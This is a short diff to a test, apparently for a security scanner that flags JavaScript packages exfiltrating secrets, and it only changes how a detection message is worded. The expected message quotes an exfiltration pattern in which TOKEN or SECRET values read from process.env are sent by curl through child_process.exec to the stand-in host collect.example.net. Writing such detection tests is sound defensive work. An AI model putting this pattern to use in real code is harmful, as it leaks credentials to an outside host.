@@ -204,7 +204,7 @@ def test_js_selection_sent_by_curl_in_a_child_process(packages: dict[str, dict[s
     p = packages["js-exec"]
     assert p["verdict"] == "block"
     assert only(p, "js-secret-exfiltration-flow") == (
-        f"sends {CONTAIN} TOKEN or SECRET (selected from process.env) to collect.example.net via exec "
+        f"sends {CONTAIN} TOKEN or SECRET (selected from process.env) to collect.example.net via child_process.exec "
         '(curl "https://collect.example.net/p?k=*&v=*")')
 
 
